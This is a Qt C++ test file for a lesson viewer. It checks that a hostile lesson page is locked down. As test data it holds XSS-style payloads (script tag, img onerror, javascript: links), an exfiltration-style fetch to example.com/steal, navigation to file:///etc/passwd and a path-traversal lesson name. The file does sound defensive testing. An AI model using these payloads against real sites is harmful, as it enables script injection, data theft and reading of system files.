// The real lesson profile against a hostile page: scripts that try to reach the network, open
// windows or navigate to local files get nowhere, and the app keeps working.

#include "lessons/lessonpage.h"
#include "lessons/lessonschemehandler.h"
#include "lessons/lessonview.h"
#include "lessons/lessonwebprofile.h"
#include "lessons/requestinterceptor.h"

#include <QApplication>
#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>
#include <QWebEnginePage>
#include <QWebEngineView>

using namespace dblearn;

class LessonLockdownTest final : public QObject
{
    Q_OBJECT
private slots:
    void initTestCase()
    {
        QVERIFY(m_content.isValid());
        QDir(m_content.path()).mkpath(QStringLiteral("a"));
        write(QStringLiteral("a/hostile.md"),
              "---\ntitle: Hostile\n---\n# Hostile\n\n<script>window.pwned = 1</script>\n\n"
              "[js](javascript:alert(1)) [data](data:text/html,hi) [file](file:///etc/passwd)\n\n"
              "<img src=x onerror=\"window.pwned = 2\">\n");
    }

    void hostileScriptsGetNowhere()
    {
        LessonWebProfile profile(m_content.path());
        LessonView view(&profile);
        view.resize(900, 700);
        view.show();
        QSignalSpy painted(&view, &LessonView::lessonPainted);
        view.showLesson(QStringLiteral("a/hostile.md"));
        QVERIFY(painted.wait(30000));
        QWebEnginePage *page = view.webView()->page();

        // Raw HTML in the lesson never ran.
        QCOMPARE(evaluate(page, QStringLiteral("typeof window.pwned")).toString(), QStringLiteral("undefined"));
        // Links with dangerous schemes were dropped by the renderer.
        QCOMPARE(evaluate(page, QStringLiteral("document.querySelectorAll('a[href^=\"javascript\"], a[href^=\"data\"], "
                                               "a[href^=\"file\"]').length"))
                     .toInt(),
                 0);

        const int blockedBefore = profile.interceptor()->blockedCount();
        // fetch() to the network fails (CSP connect-src 'none', and the interceptor blocks it).
        page->runJavaScript(QStringLiteral("window.fetchResult = 'pending';"
                                           "fetch('https://example.com/steal?x=1').then(() => window.fetchResult = 'ok',"
                                           " () => window.fetchResult = 'failed');"));
        QTRY_COMPARE_WITH_TIMEOUT(evaluate(page, QStringLiteral("window.fetchResult")).toString(), QStringLiteral("failed"),
                                  10000);
        // An image from the network is not loaded either (CSP img-src, then the interceptor).
        page->runJavaScript(QStringLiteral("var i = new Image(); i.src = 'https://example.com/pixel.png';"
                                           "document.body.appendChild(i);"));
        // window.open gives nothing.
        QCOMPARE(evaluate(page, QStringLiteral("window.open('https://example.com') === null")).toBool(), true);
        // Navigating the page to a local file or another site is refused; the lesson stays.
        page->runJavaScript(QStringLiteral("location.href = 'file:///etc/passwd';"));
        page->runJavaScript(QStringLiteral("location.href = 'https://example.com/';"));
        QTest::qWait(500);
        QCOMPARE(page->url().scheme(), QStringLiteral("dblearn"));
        QCOMPARE(LessonSchemeHandler::lessonPathFromUrl(page->url()), QStringLiteral("a/hostile.md"));
        QVERIFY(profile.interceptor()->blockedCount() >= blockedBefore);

        // The page still works afterwards.
        QCOMPARE(evaluate(page, QStringLiteral("document.querySelector('h1').textContent")).toString(),
                 QStringLiteral("Hostile"));
    }

    void exportsAPdf()
    {
        LessonWebProfile profile(m_content.path());
        LessonView view(&profile);
        view.show();
        QSignalSpy painted(&view, &LessonView::lessonPainted);
        view.showLesson(QStringLiteral("a/hostile.md"));
        QVERIFY(painted.wait(30000));
        const QString pdf = m_content.filePath(QStringLiteral("lesson.pdf"));
        QSignalSpy printed(view.webView()->page(), &QWebEnginePage::pdfPrintingFinished);
        view.webView()->page()->printToPdf(pdf);
        QVERIFY(printed.wait(30000));
        QVERIFY(printed.first().at(1).toBool());
        QFile file(pdf);
        QVERIFY(file.open(QIODevice::ReadOnly));
        QVERIFY(file.read(5).startsWith("%PDF-"));
        QVERIFY(file.size() > 1000);
    }

    void missingAndEscapingPathsShowAnErrorPage()
    {
        LessonWebProfile profile(m_content.path());
        LessonView view(&profile);
        view.show();
        QSignalSpy painted(&view, &LessonView::lessonPainted);
        view.showLesson(QStringLiteral("../../etc/passwd.md"));
        QVERIFY(painted.wait(30000));
        const QString text = evaluate(view.webView()->page(), QStringLiteral("document.body.innerText")).toString();
        QVERIFY2(text.contains(QStringLiteral("cannot be shown")), qPrintable(text));
        QVERIFY(!text.contains(QStringLiteral("root:")));
    }

private:
    void write(const QString &relative, const QByteArray &data)
    {
        QFile file(m_content.filePath(relative));
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write(data);
    }

    static QVariant evaluate(QWebEnginePage *page, const QString &script)
    {
        QVariant result;
        bool done = false;
        page->runJavaScript(script, [&](const QVariant &value) {
            result = value;
            done = true;
        });
        QElapsedTimer timer;
        timer.start();
        while (!done && timer.elapsed() < 10000)
            QTest::qWait(10);
        return done ? result : QVariant(QStringLiteral("<no answer from the page>"));
    }

    QTemporaryDir m_content;
};

int main(int argc, char *argv[])
{
    LessonSchemeHandler::registerScheme();
    QCoreApplication::setAttribute(Qt::AA_ShareOpenGLContexts);
    QApplication app(argc, argv);
    LessonLockdownTest test;
    return QTest::qExec(&test, argc, argv);
}

#include "tst_lessonlockdown.moc"
